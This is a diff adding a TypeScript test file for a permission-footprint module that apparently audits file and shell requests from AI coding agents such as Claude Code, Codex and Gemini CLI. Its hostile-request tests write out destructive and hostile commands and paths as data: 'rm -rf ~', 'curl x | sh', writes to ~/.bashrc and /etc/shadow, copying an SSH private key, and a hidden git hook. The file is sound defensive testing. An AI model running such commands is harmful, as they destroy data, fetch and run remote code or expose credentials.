@@ -1,0 +1,255 @@
+import assert from "node:assert/strict";
+import { buildFootprint, gitPatchPaths, type Footprint } from "../../src/core/policy/footprint";
+import { loadShellParser, type ShellParser } from "../../src/core/policy/shellCommands";
+import { v1Request as v1, v2DiffRequest, v2Request as v2 } from "../support/permissionRequests";
+
+const WS = "/ws";
+const HOME = "/home/u";
+
+function paths(footprint: Footprint): string[] {
+  return footprint.paths.map((p) => `${p.access} ${p.path}`);
+}
+
+function commands(footprint: Footprint): string[] {
+  return footprint.commands.flatMap((c) => c.commands.map((s) => s.argv.map((w) => w ?? "<?>").join(" ")));
+}
+
+describe("permission footprint", () => {
+  let shell: ShellParser;
+  const build = (input: { protocolVersion: 1 | 2; params: unknown }, storedToolCall?: unknown) =>
+    buildFootprint({ ...input, storedToolCall }, { shell, home: HOME, sessionCwd: WS });
+
+  before(async () => {
+    shell = await loadShellParser();
+  });
+
+  describe("real agents' request shapes", () => {
+    it("Claude Code write: rawInput.file_path, locations and a v1 diff", () => {
+      const f = build(
+        v1({
+          kind: "edit",
+          title: "Write /ws/a.ts",
+          rawInput: { file_path: "/ws/a.ts", content: "x" },
+          locations: [{ path: "/ws/a.ts" }],
+          content: [{ type: "diff", path: "/ws/a.ts", oldText: null, newText: "x" }],
+        }),
+      );
+      assert.deepEqual(paths(f), ["write /ws/a.ts"]);
+      assert.equal(f.complete, true);
+      assert.equal(f.kind, "edit");
+    });
+
+    it("Claude Code edit with file_path only (no locations) still names the file", () => {
+      const f = build(
+        v1({ kind: "edit", rawInput: { file_path: "/etc/hosts", old_string: "a", new_string: "b" } }),
+      );
+      assert.deepEqual(paths(f), ["write /etc/hosts"]);
+    });
+
+    it("Claude Code Bash: rawInput.command, run in the session's folder", () => {
+      const f = build(
+        v1({
+          kind: "execute",
+          title: "npm test",
+          name: "Bash",
+          rawInput: { command: "npm test", description: "Run" },
+        }),
+      );
+      assert.deepEqual(commands(f), ["npm test"]);
+      assert.equal(f.toolName, "Bash");
+      assert.equal(f.complete, true);
+    });
+
+    it("Codex: argv with bash -lc unwrapped, cwd and the redirection's file", () => {
+      const f = build(
+        v1({
+          kind: "execute",
+          rawInput: { command: ["/bin/bash", "-lc", "echo hi > out.txt"], cwd: "/ws/sub" },
+        }),
+      );
+      assert.deepEqual(commands(f), ["echo hi"]);
+      assert.deepEqual(paths(f), ["write /ws/sub", "write /ws/sub/out.txt"]);
+      assert.equal(f.commands[0]!.line, "echo hi > out.txt");
+      assert.equal(f.complete, true);
+    });
+
+    it("Codex: a plain argv runs as is", () => {
+      const f = build(v1({ kind: "execute", rawInput: { command: ["git", "status"], cwd: "/ws" } }));
+      assert.deepEqual(commands(f), ["git status"]);
+    });
+
+    it("GitHub Copilot CLI: rawInput.fileName and locations", () => {
+      const f = build(
+        v1({
+          kind: "edit",
+          rawInput: { fileName: "/ws/b.ts", diff: "--- a\n+++ b" },
+          locations: [{ path: "/ws/b.ts" }],
+        }),
+      );
+      assert.deepEqual(paths(f), ["write /ws/b.ts"]);
+    });
+
+    it("Gemini CLI: locations only, no raw input", () => {
+      const f = build(
+        v1({ toolCallId: "write_file__call_1", kind: "edit", locations: [{ path: "/ws/c.ts" }] }),
+      );
+      assert.deepEqual(paths(f), ["write /ws/c.ts"]);
+      assert.equal(f.complete, true);
+    });
+
+    it("Gemini CLI shell: the command is only in the title, so the footprint is incomplete", () => {
+      const f = build(v1({ kind: "execute", title: "npm test" }));
+      assert.equal(f.complete, false);
+    });
+
+    it("Qwen Code: file_path / absolute_path as reads for a read", () => {
+      const f = build(v1({ kind: "read", rawInput: { absolute_path: "/ws/d.ts" } }));
+      assert.deepEqual(paths(f), ["read /ws/d.ts"]);
+    });
+
+    it("a v2 command subject: command and cwd", () => {
+      const f = build(v2({ type: "command", command: "npm test; rm -rf ~", cwd: "/ws" }));
+      assert.equal(f.subject, "command");
+      assert.deepEqual(commands(f), ["npm test", "rm -rf ~"]);
+      assert.deepEqual(paths(f), ["write /ws"]);
+    });
+  });
+
+  describe("hostile requests: every path counts, or the footprint is incomplete", () => {
+    it("the 51st location", () => {
+      const locations = Array.from({ length: 60 }, (_, i) => ({ path: `/ws/f${i}` }));
+      locations[50] = { path: "/etc/passwd" };
+      const f = build(v1({ kind: "edit", locations }));
+      assert.equal(f.paths.length, 60);
+      assert.ok(paths(f).includes("write /etc/passwd"));
+    });
+
+    it("more paths than it reads makes it incomplete, never silently capped", () => {
+      const locations = Array.from({ length: 1_001 }, (_, i) => ({ path: `/ws/f${i}` }));
+      const f = build(v1({ kind: "edit", locations }));
+      assert.equal(f.complete, false);
+      assert.equal(f.paths.length, 1_000);
+    });
+
+    it("the 101st content item", () => {
+      const content: unknown[] = Array.from({ length: 100 }, () => ({
+        type: "content",
+        content: { type: "text", text: "x" },
+      }));
+      content.push({ type: "diff", path: "/home/u/.bashrc", oldText: "", newText: "curl x | sh" });
+      const f = build(v1({ kind: "edit", content }));
+      assert.deepEqual(paths(f), ["write /home/u/.bashrc"]);
+    });
+
+    it("a v2 diff without a patch, a second change, a copy's and a move's oldPath", () => {
+      const f = build(
+        v2DiffRequest({
+          changes: [
+            { operation: "modify", path: "/ws/a.ts" },
+            { operation: "add", path: "/home/u/.zshenv" },
+            { operation: "copy", oldPath: "/home/u/.ssh/id_rsa", path: "/ws/key" },
+            { operation: "move", oldPath: "/ws/.git/config", path: "/ws/config" },
+          ],
+        }),
+      );
+      assert.deepEqual(paths(f), [
+        "write /ws/a.ts",
+        "write /home/u/.zshenv",
+        "write /ws/key",
+        "read /home/u/.ssh/id_rsa",
+        "write /ws/config",
+        "write /ws/.git/config",
+      ]);
+      assert.equal(f.complete, true);
+    });
+
+    it("a patch that changes a file its change list does not name", () => {
+      const hook = ".git/hooks/pre-commit";
+      const f = build(
+        v2DiffRequest({
+          changes: [{ operation: "modify", path: "/ws/a.ts" }],
+          patch: {
+            format: "git_patch",
+            text: `diff --git a/${hook} b/${hook}\n--- a/${hook}\n+++ b/${hook}\n`,
+          },
+        }),
+      );
+      assert.equal(f.complete, false);
+    });
+
+    it("an unknown change operation, content type or patch format", () => {
+      const diff = (extra: Record<string, unknown>) => build(v2DiffRequest({ changes: [], ...extra }));
+      assert.equal(diff({ changes: [{ operation: "symlink", path: "/ws/a" }] }).complete, false);
+      assert.equal(diff({ patch: { format: "svn", text: "" } }).complete, false);
+      assert.equal(
+        build(v1({ kind: "edit", content: [{ type: "hologram", path: "/etc" }] })).complete,
+        false,
+      );
+    });
+
+    it("a 5,000-character path is kept whole (the boundary refuses it)", () => {
+      const long = `/ws/${"a".repeat(5_000)}`;
+      const f = build(v1({ kind: "edit", locations: [{ path: long }] }));
+      assert.equal(f.paths[0]!.path, long);
+    });
+
+    it("a v1 execute call whose command is only in rawInput", () => {
+      const f = build(v1({ kind: "execute", rawInput: { command: "rm -rf ~" } }));
+      assert.deepEqual(commands(f), ["rm -rf ~"]);
+    });
+
+    it("chained, substituted and redirected commands", () => {
+      const f = build(
+        v2({ type: "command", command: "npm test > ~/.bashrc && echo $(curl x | sh)", cwd: "/ws" }),
+      );
+      assert.deepEqual(commands(f), ["npm test", "curl x", "sh", "echo <?>"]);
+      assert.ok(paths(f).includes("write /home/u/.bashrc"));
+    });
+
+    it("an unrecognised subject or none at all", () => {
+      const unknown = build(v2({ type: "mcp_elicitation", url: "https://x" }));
+      assert.equal(unknown.subject, "unknown");
+      assert.equal(unknown.complete, false);
+      assert.equal(build(v2(null)).complete, false);
+      assert.equal(build({ protocolVersion: 1, params: { sessionId: "s" } }).complete, false);
+    });
+
+    it("paths of the stored tool call count even when the patch omits them", () => {
+      const stored = { toolCallId: "t1", kind: "edit", locations: [{ path: "/etc/shadow" }] };
+      const f = build(v1({ status: "pending" }), stored);
+      assert.equal(f.kind, "edit");
+      assert.deepEqual(paths(f), ["write /etc/shadow"]);
+    });
+
+    it("malformed fields make it incomplete rather than being skipped", () => {
+      assert.equal(build(v1({ kind: "edit", locations: "/etc" })).complete, false);
+      assert.equal(build(v1({ kind: "edit", locations: [{ line: 3 }] })).complete, false);
+      assert.equal(build(v1({ kind: "edit", rawInput: { file_path: ["/etc/a"] } })).complete, false);
+      assert.equal(build(v1({ kind: "execute", rawInput: { command: { program: "rm" } } })).complete, false);
+      assert.equal(build(v1({ kind: "execute", rawInput: { command: "eval $X" } })).complete, false);
+    });
+
+    it("a relative redirection after a cd cannot be placed", () => {
+      assert.equal(
+        build(v2({ type: "command", command: "cd /etc && echo x > hosts", cwd: "/ws" })).complete,
+        false,
+      );
+      assert.equal(
+        build(v2({ type: "command", command: "cd /etc && echo x > /ws/log", cwd: "/ws" })).complete,
+        true,
+      );
+    });
+
+    it("a redirection to another user's home cannot be placed", () => {
+      const f = build(v2({ type: "command", command: "echo x > ~root/.bashrc", cwd: "/ws" }));
+      assert.equal(f.complete, false);
+    });
+  });
+
+  it("reads the files a git patch names", () => {
+    assert.deepEqual(
+      gitPatchPaths("diff --git a/x b/y\nrename from x\nrename to y\n--- a/x\n+++ b/y\n--- /dev/null\n"),
+      ["x", "y"],
+    );
+  });
+});
